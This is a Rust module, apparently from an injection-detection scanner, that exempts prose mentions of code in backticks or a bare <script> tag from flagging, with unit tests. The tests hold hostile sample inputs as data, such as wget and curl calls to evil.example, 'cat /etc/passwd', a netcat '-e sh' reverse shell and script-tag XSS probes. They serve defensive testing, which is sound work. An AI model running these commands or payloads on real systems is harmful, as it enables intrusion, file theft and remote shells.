//! Code named in a sentence rather than run, for the rules marked [`Context::InlineCode`] and
//! [`Context::BareScriptTag`] at paranoia 1: documentation prose quotes a command in Markdown
//! backticks (`` type `id` to see your groups ``) and names the `<script>` tag (`the <script>
//! tag loads JavaScript`). Both are exempt only when nothing else in the value is code:
//!
//! - inline code: one backtick span, standing as a word of a sentence (whitespace or the start
//!   before it, whitespace, punctuation or the end after it), holding a plain command: no
//!   absolute path, URL, variable, redirection, `;`, `&` or nested substitution; the text
//!   around it reads as a sentence ([`mostly_words`], [`MIN_LONG_WORDS`] words of two letters
//!   or more) and holds no code ([`has_code`]). `x`id``, `8.8.8.8 `id`` and
//!   `` see the docs `wget evil.example/x -o /tmp/x` `` count.
//! - a bare `<script>` tag: no attribute, no `</script>`, and what follows it is words only, so
//!   a browser reading it as a script body finds a syntax error, not a script.
//!
//! [`Context::InlineCode`]: super::Context::InlineCode
//! [`Context::BareScriptTag`]: super::Context::BareScriptTag

use super::prose::{has_code, is_plain_word, mostly_words};

/// The fewest words of two letters or more a sentence needs around inline code: single
/// letters (`a `id` b c d`) are how payloads are padded, not how people write.
const MIN_LONG_WORDS: usize = 3;

/// Whether the match `start..end` lies inside the one backtick span of `text`, and that span
/// is inline code in a sentence (see the module docs).
pub(crate) fn is_inline_code(text: &str, start: usize, end: usize) -> bool {
    let bytes = text.as_bytes();
    let ticks: Vec<usize> = bytes
        .iter()
        .enumerate()
        .filter(|&(_, &b)| b == b'`')
        .map(|(i, _)| i)
        .take(3)
        .collect();
    let [open, close] = ticks[..] else {
        return false;
    };
    if start < open || end > close + 1 {
        return false;
    }
    let before_ok = open == 0 || bytes[open - 1].is_ascii_whitespace();
    let after_ok = bytes.get(close + 1).is_none_or(|&b| {
        b.is_ascii_whitespace() || matches!(b, b'.' | b',' | b':' | b'!' | b'?' | b')')
    });
    let span = &text[open + 1..close];
    let plain_command = !span.contains(['$', ';', '&', '<', '>', '\n', '\\'])
        && !span.contains("://")
        && !span
            .split_whitespace()
            .any(|word| word.starts_with(['/', '~']) || word.contains(".."));
    let outside = format!("{} {}", &text[..open], &text[close + 1..]);
    before_ok && after_ok && plain_command && reads_as_sentence(&outside)
}

/// Whether the match `start..end` is a bare `<script>` tag followed by words only, in a value
/// that otherwise reads as a sentence (see the module docs).
pub(crate) fn is_bare_script_tag(text: &str, start: usize, end: usize) -> bool {
    const TAG: &str = "<script>";
    if !text[start..].starts_with(TAG) || end > start + TAG.len() || text.contains("</") {
        return false;
    }
    let before = &text[..start];
    let after = &text[start + TAG.len()..];
    let spaced = (before.is_empty() || before.ends_with(char::is_whitespace))
        && after.starts_with(char::is_whitespace);
    spaced
        && after.split_whitespace().all(is_plain_word)
        && reads_as_sentence(&format!("{before} {after}"))
}

/// Whether `text` is a sentence free of code, with enough real words.
fn reads_as_sentence(text: &str) -> bool {
    let long_words = text
        .split_whitespace()
        .filter(|word| is_plain_word(word))
        .filter(|word| word.trim_matches(|c: char| !c.is_alphabetic()).len() >= 2)
        .count();
    long_words >= MIN_LONG_WORDS && !has_code(text) && mostly_words(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn inline(text: &str, needle: &str) -> bool {
        let start = text.find(needle).unwrap();
        is_inline_code(text, start, start + needle.len())
    }

    fn script(text: &str) -> bool {
        let start = text.find("<script").unwrap();
        is_bare_script_tag(text, start, start + "<script".len())
    }

    #[test]
    fn reads_a_command_in_backticks_in_a_sentence_as_inline_code() {
        assert!(inline("type `id` to see your groups", "`id`"));
        assert!(inline(
            "run `ls -la` in the folder to see hidden files",
            "`ls -la"
        ));
        assert!(inline(
            "`hostname`. on success the promise resolves",
            "`hostname`"
        ));
        assert!(inline(
            "i ran `rm -rf node_modules` and reinstalled",
            "`rm -rf"
        ));
        assert!(inline(
            "run `cat file.txt | grep foo` in your terminal",
            "| grep"
        ));
    }

    #[test]
    fn counts_backticks_attached_padded_or_reaching_outside() {
        assert!(!inline("hi there friend x`id`", "`id`"));
        assert!(!inline("8.8.8.8 `id`", "`id`"));
        assert!(!inline("`id`", "`id`"));
        assert!(!inline("a `id` b c d e", "`id`"));
        assert!(!inline(
            "see the docs here `wget evil.example/x -o /tmp/x`",
            "`wget"
        ));
        assert!(!inline("please run `cat /etc/passwd` for me now", "`cat"));
        assert!(!inline(
            "please run `curl http://evil.example` for me",
            "`curl"
        ));
        assert!(!inline("please run `id` and then `whoami` for me", "`id`"));
        assert!(!inline("please run `id`; then go home now", "`id`"));
        assert!(!inline("please run `nc -e sh evil 4444 > x` now", "`nc"));
    }

    #[test]
    fn reads_a_bare_script_tag_named_in_a_sentence_as_a_mention() {
        assert!(script("the <script> tag loads javascript"));
        assert!(script("the <script> tag goes in the head (docs)"));
    }

    #[test]
    fn counts_a_script_tag_with_a_body_attributes_or_a_close() {
        assert!(!script("the <script>alert(1) tag loads javascript"));
        assert!(!script("the <script> alert(1) loads javascript now"));
        assert!(!script("a <script>alert(1)</script> b"));
        assert!(!script("the <script src=//evil.example> tag loads"));
        assert!(!script("the <script> tag loads </script> javascript"));
        assert!(!script("<script> a b c"));
    }
}
